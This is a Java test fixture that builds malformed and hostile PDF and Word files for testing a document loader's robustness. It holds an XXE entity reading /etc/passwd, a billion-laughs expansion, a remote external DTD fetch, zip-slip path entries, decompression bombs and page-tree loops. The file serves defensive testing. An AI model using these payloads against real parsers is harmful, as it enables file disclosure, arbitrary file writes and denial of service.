package org.w3id.concert.read;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.zip.DeflaterOutputStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.w3id.concert.read.MadeDocuments.Placed;

/** PDF and DOCX files that a loader should fear. */
final class NastyPackages {
    private static final String BODY = MadeDocuments.paragraph("A pact of six states.");

    private NastyPackages() {}

    static Map<String, byte[]> files() throws IOException {
        Map<String, byte[]> files = new TreeMap<>();
        pdf(files);
        docx(files);
        return files;
    }

    private static void pdf(Map<String, byte[]> files) throws IOException {
        byte[] plain = MadeDocuments.pdf(List.of("A plain pact of six states, which nothing is wrong with."), 80);
        files.put("plain.pdf", plain);
        files.put("pdf-named.txt", MadeDocuments.pdf(List.of("A pact in a file that is named otherwise."), 80));
        files.put("scanned.pdf", MadeDocuments.pdf(List.of(List.of(), List.of())));
        files.put(
                "half-scanned.pdf",
                MadeDocuments.pdf(List.of(List.of(new Placed("A pact on one page.", 11, 70, 700)), List.of())));
        files.put("truncated.pdf", Arrays.copyOf(plain, plain.length * 2 / 3));
        files.put("header-only.pdf", "%PDF-1.7\n%%EOF".getBytes(ISO_8859_1));
        files.put("garbage.pdf", ("%PDF-1.7\n" + "garbage ".repeat(1000) + "\n%%EOF").getBytes(ISO_8859_1));
        files.put("encrypted.pdf", protectedPdf("secret", new AccessPermission()));
        AccessPermission closed = new AccessPermission();
        closed.setCanExtractContent(false);
        files.put("forbidden.pdf", protectedPdf("", closed));
        files.put("page-loop.pdf", pdfOf("<< /Type /Pages /Count 1 /Kids [ 2 0 R ] >>", new byte[0]));
        files.put("bomb.pdf", pdfOf("<< /Type /Pages /Count 1 /Kids [ 3 0 R ] >>", bomb()));
        files.put("many-pages.pdf", pdfOf("<< /Type /Pages /Count 2000000000 /Kids [ 2 0 R 2 0 R ] >>", new byte[0]));
    }

    private static byte[] protectedPdf(String password, AccessPermission permission) throws IOException {
        try (PDDocument document = new PDDocument()) {
            document.addPage(new PDPage());
            document.protect(new StandardProtectionPolicy("owner", password, permission));
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            document.save(bytes);
            return bytes.toByteArray();
        }
    }

    /** A PDF that draws lines without end. */
    static byte[] slowPdf() throws IOException {
        return pdfOf("<< /Type /Pages /Count 1 /Kids [ 3 0 R ] >>", packed("", "0 0 m 9 9 l S "));
    }

    /** Two hundred megabytes of drawn letters, packed. */
    private static byte[] bomb() throws IOException {
        return packed("BT /F1 9 Tf 9 9 Td ", "(pact) Tj ");
    }

    private static byte[] packed(String start, String repeated) throws IOException {
        byte[] letters = repeated.repeat(100_000).getBytes(ISO_8859_1);
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (DeflaterOutputStream out = new DeflaterOutputStream(packed)) {
            out.write(start.getBytes(ISO_8859_1));
            for (int i = 0; i < 200; i++) {
                out.write(letters);
            }
        }
        return packed.toByteArray();
    }

    /** A PDF with that page tree, and a page of that packed content as its object 3. */
    private static byte[] pdfOf(String pages, byte[] packed) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(("%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj " + pages + " endobj\n"
                        + "3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources <<"
                        + " /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >> endobj\n"
                        + "4 0 obj << /Filter /FlateDecode /Length " + packed.length + " >> stream\n")
                .getBytes(ISO_8859_1));
        out.write(packed);
        out.write("\nendstream endobj\ntrailer << /Root 1 0 R /Size 5 >>\nstartxref\n0\n%%EOF".getBytes(ISO_8859_1));
        return out.toByteArray();
    }

    private static void docx(Map<String, byte[]> files) {
        byte[] plain = MadeDocuments.docx(MadeDocuments.paragraph("A plain pact in a Word file."), Map.of());
        files.put("plain.docx", plain);
        files.put("truncated.docx", Arrays.copyOf(plain, plain.length * 2 / 3));
        files.put("empty.docx", MadeDocuments.docx("", Map.of()));
        files.put("sheet.xlsx", MadeDocuments.zip(Map.of("xl/workbook.xml", "<workbook/>")));
        files.put("malformed.docx", MadeDocuments.docx("<w:p><w:r>", Map.of()));
        files.put("bomb.docx", MadeDocuments.docx("<w:p/>" + " ".repeat(30_000_000) + BODY, Map.of()));
        files.put("external-entity.docx", withType("<!ENTITY x SYSTEM 'file:///etc/passwd'>", "&x;"));
        files.put("laughing.docx", withType("<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;'>", "&b;"));
        files.put("remote-type.docx", withType("<!ENTITY % x SYSTEM 'http://192.0.2.1/x'> %x;", "pact"));
        files.put("slip.docx", MadeDocuments.docx(BODY, Map.of("../../slipped.txt", "slipped")));
        files.put("absolute.docx", MadeDocuments.docx(BODY, Map.of("/tmp/slipped.txt", "slipped")));
        Map<String, String> many = new LinkedHashMap<>();
        for (int i = 0; i < 11_000; i++) {
            many.put("part" + i, "");
        }
        files.put("many-parts.docx", MadeDocuments.docx(BODY, many));
        files.put(
                "tracked.docx",
                MadeDocuments.docx(
                        "<w:p><w:r><w:t xml:space=\"preserve\">A kept </w:t></w:r><w:del><w:r><w:delText>no</w:delText></w:r>"
                                + "</w:del><w:r><w:t>pact.</w:t></w:r></w:p>",
                        Map.of()));
        files.put(
                "deep.docx",
                MadeDocuments.docx(
                        "<w:sdt>".repeat(50_000) + MadeDocuments.paragraph("A deep pact.") + "</w:sdt>".repeat(50_000),
                        Map.of()));
        files.put(
                "hidden.docx",
                MadeDocuments.docx(
                        "<w:p><w:r><w:t>A seen pact</w:t></w:r><w:r><w:rPr><w:vanish/></w:rPr><w:t>no</w:t></w:r></w:p>",
                        Map.of()));
        files.put("utf16.docx", utf16());
    }

    private static byte[] withType(String type, String text) {
        String document = MadeDocuments.word(
                        "document",
                        "<w:body>" + MadeDocuments.paragraph("A pact.") + "<w:p><w:r><w:t>" + text
                                + "</w:t></w:r></w:p></w:body>")
                .replace("?>", "?><!DOCTYPE w:document [" + type + "]>");
        return MadeDocuments.zip(Map.of("word/document.xml", document));
    }

    private static byte[] utf16() {
        String document = MadeDocuments.word(
                        "document", "<w:body>" + MadeDocuments.paragraph("A wide pact.") + "</w:body>")
                .replace("UTF-8", "UTF-16");
        return MadeDocuments.zip(Map.of("word/document.xml", "\uFEFF" + document), StandardCharsets.UTF_16BE);
    }
}
